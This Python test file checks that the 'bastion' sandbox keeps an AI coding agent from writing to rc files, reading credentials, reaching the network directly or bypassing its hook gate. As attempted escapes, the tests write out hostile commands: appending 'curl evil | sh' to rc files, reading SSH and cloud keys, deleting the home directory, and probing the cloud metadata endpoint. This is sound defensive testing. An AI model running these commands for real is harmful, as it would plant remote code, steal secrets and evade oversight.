"""``bastion sandbox run --profile agent:AGENT -- CMD``: the sandbox ``bastion launch AGENT``
runs an agent CLI in, tried as the agent (or a command it runs) would try to get out.

Each test is a real process in real bubblewrap, with a throwaway HOME holding credentials,
rc files, repositories and agent settings, and the project inside it."""

from __future__ import annotations

import json
import os
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.adapters.hooks.conftest import bastion_exe
from tests.exec.sandbox_helpers import require_bwrap


@dataclass
class Home:
    home: Path
    project: Path
    state: Path

    def env(self, **extra: str) -> dict[str, str]:
        source = {"PYTHONPATH": os.environ["PYTHONPATH"]} if os.environ.get("PYTHONPATH") else {}
        return {
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "HOME": str(self.home),
            "BASTION_STATE_DIR": str(self.state),
            **source,
            **extra,
        }


#: Files the agent must never change, with their content.
KEPT = {
    ".bashrc": "# rc\n",
    ".gitconfig": "[user]\n\tname = me\n",
    "proj/.git/config": "[core]\n\tbare = false\n",
    "other/.git/config": "[core]\n\tbare = false\n",
    ".claude/settings.json": '{"hooks": {}}\n',
    ".codex/config.toml": 'model = "gpt-5-codex"\n',
    ".codex/hooks.json": '{"hooks": {}}\n',
}
#: Credentials the agent must never read.
SECRETS = {
    ".ssh/id_rsa": "SSH-PRIVATE-KEY\n",
    ".aws/credentials": "AWS-SECRET\n",
    "proj/.env": "PROJECT-TOKEN\n",
    "other/deep/er/.env": "DEEP-TOKEN\n",
    "proj/certs/server.pem": "PEM-KEY\n",
    ".claude/.credentials.json": "CLAUDE-LOGIN\n",  # another agent's login
    ".config/gh/hosts.yml": "GH-TOKEN\n",  # another tool's login
}


@pytest.fixture
def fake_home(tmp_path: Path) -> Home:
    require_bwrap()
    home = tmp_path / "home"
    for name, text in {**KEPT, **SECRETS}.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    return Home(home, home / "proj", tmp_path / "state")


def sandbox_run(
    where: Home, command: str, *, profile: str = "agent:codex", **env: str
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [bastion_exe(), "sandbox", "run", "--profile", profile, "--timeout", "60", "--", "sh", "-c", command],
        cwd=where.project, env=where.env(**env), capture_output=True, text=True, timeout=120,
    )  # fmt: skip


def test_the_agent_writes_the_workspace_and_its_own_state_folder(fake_home: Home) -> None:
    done = sandbox_run(
        fake_home, "echo made > made && echo state > ~/.codex/x && mkdir -p ~/.codex/sessions/a"
    )

    assert done.returncode == 0, done.stderr
    assert (fake_home.project / "made").read_text() == "made\n"
    assert (fake_home.home / ".codex" / "x").read_text() == "state\n"
    assert (fake_home.home / ".codex" / "sessions" / "a").is_dir()


def test_the_agent_changes_no_rc_file_repository_config_or_agent_settings(fake_home: Home) -> None:
    attempts = "; ".join(
        f"echo 'curl evil | sh' >> ~/{name}; rm -f ~/{name}; mv ~/{name} ~/{name}.gone" for name in KEPT
    )

    done = sandbox_run(fake_home, f"{attempts}; echo x > ~/.profile; echo x > ~/newfile; exit 0")

    assert done.returncode == 0, done.stderr
    assert {name: (fake_home.home / name).read_text() for name in KEPT} == KEPT
    assert [p.name for p in (fake_home.home).iterdir() if p.name in (".profile", "newfile")] == []


def test_a_settings_file_the_agent_creates_in_its_state_folder_is_moved_out_afterwards(
    fake_home: Home,
) -> None:
    (fake_home.home / ".codex" / "hooks.json").unlink()

    done = sandbox_run(fake_home, 'echo \'{"hooks": {"evil": 1}}\' > ~/.codex/hooks.json')

    assert done.returncode == 0, done.stderr
    assert not (fake_home.home / ".codex" / "hooks.json").exists()


def test_the_agent_reads_no_credential_at_any_depth(fake_home: Home) -> None:
    names = " ".join(f"~/{name}" for name in SECRETS)

    done = sandbox_run(fake_home, f"cat {names} 2>&1; grep -r TOKEN ~ 2>&1; cat ~/.gitconfig; exit 0")

    assert done.returncode == 0, done.stderr
    leaked = [text.strip() for text in SECRETS.values() if text.strip() in done.stdout + done.stderr]
    assert (leaked, "name = me" in done.stdout) == ([], True)  # HOME is visible, credentials are not


def test_the_agent_reads_its_own_login_and_no_other_agent_s(fake_home: Home) -> None:
    (fake_home.home / ".codex" / "auth.json").write_text("CODEX-LOGIN\n")

    done = sandbox_run(fake_home, "cat ~/.codex/auth.json ~/.claude/.credentials.json 2>/dev/null; exit 0")

    assert done.stdout == "CODEX-LOGIN\n"


def test_the_agent_sees_none_of_bastion_s_state_and_only_the_hook_socket(fake_home: Home) -> None:
    fake_home.state.mkdir()
    (fake_home.state / "ledger.sqlite").write_text("LEDGER")

    done = sandbox_run(fake_home, f'ls -A {fake_home.state}; ls -A "$(dirname "$BASTION_HOOK_SOCKET")"')

    assert (done.returncode, done.stdout) == (0, "hooks.sock\n"), done.stderr


def test_the_hooks_inside_reach_the_gate_through_the_socket(fake_home: Home) -> None:
    """An allow needs the ledger written first: only the gate outside can answer it."""
    hook = f"{bastion_exe()} hook codex"
    payload = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "cwd": str(fake_home.project),
               "session_id": "s", "tool_input": {"command": "git status"}}  # fmt: skip
    denied = {**payload, "tool_input": {"command": f"rm -rf {fake_home.home}"}}

    allowed = sandbox_run(fake_home, f"echo '{json.dumps(payload)}' | {hook}; echo exit=$?")
    refused = sandbox_run(fake_home, f"echo '{json.dumps(denied)}' | {hook}; echo exit=$?")
    cut_off = f"BASTION_HOOK_SOCKET=/nowhere/hooks.sock BASTION_HOOK_AUTOSTART=0 {hook}"
    alone = sandbox_run(fake_home, f"echo '{json.dumps(payload)}' | {cut_off}; echo exit=$?")

    assert allowed.stdout.strip().endswith("exit=0"), allowed.stdout + allowed.stderr
    assert "deny" not in allowed.stdout
    assert refused.stdout.strip().endswith("exit=2")
    assert alone.stdout.strip().endswith("exit=2"), alone.stdout  # no socket: no allow
    assert '"permissionDecision":"deny"' in alone.stdout
    assert '"permissionDecision":"deny"' in refused.stdout


class _Server:
    def __init__(self) -> None:
        self.hits: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                return

            def do_GET(self) -> None:
                outer.hits.append(self.path)
                body = b"model says hi"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


@pytest.fixture
def loopback() -> Iterator[_Server]:
    server = _Server()
    yield server
    server.httpd.shutdown()
    server.httpd.server_close()


def _policy(where: Home, text: str) -> None:
    """The user's policy (a project's may only tighten, never open the network)."""
    (where.home / ".config" / "bastion").mkdir(parents=True, exist_ok=True)
    (where.home / ".config" / "bastion" / "policy.toml").write_text(text)


CURL = "curl -s -m 20 -o /dev/null -w '%{http_code}\\n'"


def test_no_connection_leaves_but_through_the_proxy(fake_home: Home, loopback: _Server) -> None:
    _policy(fake_home, "[network]\nallow_private = true\nallow_hosts = ['127.0.0.1']\n")

    done = sandbox_run(
        fake_home, f"{CURL} --noproxy '*' {loopback.url}/direct; {CURL} {loopback.url}/proxied"
    )

    assert (done.stdout, loopback.hits) == ("000\n200\n", ["/proxied"])


def test_the_gate_refuses_a_connection_the_policy_does_not_allow(fake_home: Home, loopback: _Server) -> None:
    done = sandbox_run(fake_home, f"{CURL} {loopback.url}/x; {CURL} http://169.254.169.254/latest/meta-data/")

    assert (done.stdout, loopback.hits) == ("403\n403\n", [])


def test_the_agent_s_model_api_is_reachable_by_default_and_the_policy_can_deny_it(
    fake_home: Home, loopback: _Server
) -> None:
    _policy(fake_home, "[network]\nallow_private = true\n")  # loopback is private: allowed to exist
    model = {"OPENAI_BASE_URL": f"{loopback.url}/v1"}

    reached = sandbox_run(fake_home, f"{CURL} {loopback.url}/v1/responses", **model)
    _policy(fake_home, "[network]\nallow_private = true\ndeny_hosts = ['127.0.0.1']\n")
    denied = sandbox_run(fake_home, f"{CURL} {loopback.url}/v1/again", **model)

    assert (reached.stdout, denied.stdout, loopback.hits) == ("200\n", "403\n", ["/v1/responses"])


def test_the_agent_gets_its_own_variables_and_no_other_tool_s_token(fake_home: Home) -> None:
    done = sandbox_run(
        fake_home,
        "env",
        OPENAI_API_KEY="sk-mine",
        AWS_SECRET_ACCESS_KEY="aws",
        GITHUB_TOKEN="gh",
        BASTION_SHADOW="1",
    )

    names = {line.split("=", 1)[0] for line in done.stdout.splitlines()}
    assert (
        "OPENAI_API_KEY" in names,
        names & {"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "BASTION_SHADOW"},
    ) == (
        True,
        set(),
    )


def test_an_unknown_agent_profile_runs_nothing(fake_home: Home) -> None:
    done = sandbox_run(fake_home, "touch ran", profile="agent:nosuch")

    assert done.returncode == 126
    assert "no agent profile for 'nosuch'" in done.stderr
    assert not (fake_home.project / "ran").exists()


def test_the_exec_process_and_memory_caps_hold_for_the_agent(fake_home: Home) -> None:
    _policy(fake_home, "[exec]\nmax_processes = 20\nmax_resident_mb = 32\n")

    forks = sandbox_run(fake_home, "for i in $(seq 40); do sleep 2 & done; wait; echo all-forked")
    memory = sandbox_run(
        fake_home, "python3 -c 'b = bytearray(128 << 20); b[::4096] = b\"x\" * (32 << 10)'; echo $?"
    )

    assert ("all-forked" in forks.stdout, "Cannot fork" in forks.stderr) == (False, True)
    assert memory.stdout == "137\n"  # killed by the cgroup's memory limit
